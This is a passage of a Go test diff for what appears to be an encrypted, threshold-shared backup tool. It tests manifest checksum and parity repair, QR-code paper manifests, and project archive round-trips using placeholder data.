+	for i := 0; i < len(sealed.Manifest); i += 512 {
+		offsets = append(offsets, i)
+	}
+	damaged = damage(offsets...)
+	if err := bundle.VerifyBundleReader(bytes.NewReader(damaged), int64(len(damaged))); !errors.Is(err, core.ErrChecksumMismatch) {
+		t.Errorf("expected ErrChecksumMismatch, got %v", err)
+	}
+	if _, _, err := bundle.RepairManifest(damaged); !errors.Is(err, core.ErrUnrepairable) {
+		t.Errorf("expected ErrUnrepairable, got %v", err)
+	}
+
+	// The owner's copy keeps its parity data next to it
+	path := filepath.Join(t.TempDir(), "MANIFEST.age")
+	if err := bundle.WriteManifestFile(path, sealed.Manifest); err != nil {
+		t.Fatal(err)
+	}
+	rotten := bytes.Clone(sealed.Manifest)
+	rotten[len(rotten)-1] ^= 0x01
+	if err := os.WriteFile(path, rotten, 0644); err != nil {
+		t.Fatal(err)
+	}
+	if got, repaired, err := bundle.ReadManifestFile(path); err != nil || repaired != 1 || !bytes.Equal(got, sealed.Manifest) {
+		t.Errorf("ReadManifestFile: repaired %d, err %v", repaired, err)
+	}
+}
+
+func TestPaperManifest(t *testing.T) {
+	p := &project.Project{
+		Name:      "paper",
+		Threshold: 2,
+		Friends:   []project.Friend{{Name: "Alice"}, {Name: "Bob"}},
+	}
+	sealed, err := bundle.SealFiles(p, []manifest.File{{Name: "passwords.txt", Data: []byte("bank: hunter2\nemail: correct horse battery staple\n")}}, nil)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+	}
+	readmeSize := func(cfg bundle.Config, manifestData []byte) (int, error) {
+		size := 0
+		err := bundle.Build(p, sealed.Shares, manifestData, time.Now(), cfg, func(b bundle.Bundle) error {
+			zr, err := zip.NewReader(bytes.NewReader(b.Data), int64(len(b.Data)))
+			if err != nil {
+				return err
+			}
+			for _, f := range zr.File {
+				if f.Name == "README.pdf" {
+					size = int(f.UncompressedSize64)
+				}
+			}
+			return nil
+		})
+		return size, err
+	}
+
+	plain, err := readmeSize(cfg, sealed.Manifest)
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
+	cfg.PaperManifest = true
+	paper, err := readmeSize(cfg, sealed.Manifest)
+	if err != nil {
+		t.Fatalf("Build with paper manifest: %v", err)
+	}
+	if paper <= plain {
+		t.Errorf("README.pdf with the manifest printed is %d bytes, not larger than %d", paper, plain)
+	}
+
+	// What's printed reads back as the sealed MANIFEST.age
+	r := core.NewPaperReader()
+	for _, code := range core.PaperQRCodes(sealed.Manifest) {
+		if err := r.Add(code); err != nil {
+			t.Fatalf("reading QR code: %v", err)
+		}
+	}
+	got, err := r.Read()
+	if err != nil || !bytes.Equal(got, sealed.Manifest) {
+		t.Fatalf("reading the printed manifest: %v", err)
+	}
+
+	if _, err := readmeSize(cfg, make([]byte, core.MaxPaperManifestSize+1)); err == nil {
+		t.Error("expected an error for a manifest too large to print")
+	}
+}
+
+func TestProjectArchive(t *testing.T) {
+	p := &project.Project{
+		Name:      "browser",
+		Threshold: 2,
+		Friends:   []project.Friend{{Name: "Alice"}, {Name: "Bob"}, {Name: "Carol"}},
+	}
+	sealed, err := bundle.SealFiles(p, []manifest.File{{Name: "notes.txt", Data: []byte("hello")}}, nil)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
+	p.AddSeal(sealed.Record(p, at, bundle.Config{Version: "v1.0.0"}))
+
+	var buf bytes.Buffer
+	if err := bundle.WriteProjectArchive(&buf, p, sealed.Manifest); err != nil {
+		t.Fatalf("WriteProjectArchive: %v", err)
+	}
+	got, manifestData, err := bundle.ReadProjectArchive(buf.Bytes())
+	if err != nil {
+		t.Fatalf("ReadProjectArchive: %v", err)
+	}
+	if !bytes.Equal(manifestData, sealed.Manifest) {
+		t.Error("MANIFEST.age doesn't round-trip")
+	}
+	seal := got.CurrentSeal()
+	if seal == nil || !seal.Ephemeral || !seal.At.Equal(at) || seal.RecoveryURL != core.DefaultRecoveryURL {
+		t.Fatalf("unexpected seal record: %+v", seal)
+	}
+	// Every share in the bundles is recognized as this seal's
+	for _, share := range sealed.Shares {
+		if got.FindSeal(share.Checksum) != 0 || got.FindSeal(core.HashBytes([]byte(share.Encode()))) != 0 {
+			t.Errorf("share %d isn't recognized", share.Index)
+		}
+	}
+	// Files picked in a browser aren't indexed, and their contents stay out
+	if len(seal.Files) != 0 || bytes.Contains(buf.Bytes(), []byte(core.HashString("hello"))) {
+		t.Errorf("the archive indexes the files: %+v", seal.Files)
+	}
+
+	// MANIFEST.age is optional, but must match the seal
+	buf.Reset()
+	if err := bundle.WriteProjectArchive(&buf, p, nil); err != nil {
+		t.Fatalf("WriteProjectArchive without manifest: %v", err)
+	}
+	if _, manifestData, err := bundle.ReadProjectArchive(buf.Bytes()); err != nil || manifestData != nil {
+		t.Errorf("without manifest: got %d bytes, %v", len(manifestData), err)
+	}
+	if err := bundle.WriteProjectArchive(&buf, p, []byte("other")); err == nil {
+		t.Error("expected an error for a MANIFEST.age from another seal")
+	}
+	if _, _, err := bundle.ReadProjectArchive([]byte("not a zip")); err == nil {
+		t.Error("expected an error for data that isn't a ZIP")
+	}
+}